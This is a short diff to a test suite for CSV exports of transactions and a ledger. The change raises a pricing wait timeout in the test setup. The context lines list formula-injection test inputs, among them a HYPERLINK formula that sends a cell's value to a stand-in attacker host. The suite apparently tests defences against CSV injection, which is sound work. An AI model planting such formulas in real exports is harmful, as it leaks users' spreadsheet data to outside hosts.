@@ -23,7 +23,8 @@ describe('CSV exports of transactions and the ledger', function () {
   const formulas = ['=HYPERLINK("http://attacker.example/?x="&A1,"open")', '+1+2', '-3+4', '@SUM(1,2)', '\t=1+1'];
 
   before(async () => {
-    api = await startApi();
+    // A loaded machine prices slowly: the web process waits longer for the pricing pool's rate.
+    api = await startApi({ env: { QUOTE_WAIT_MS: '10000' } });
     pools = await startPools(['pricing', 'settlement', 'providers', 'sandbox']);
     key = (await makeKey((await makeBusiness()).businessId, { rateLimit: 1_000_000 })).key;
     const customer = await createCustomer(api, key);
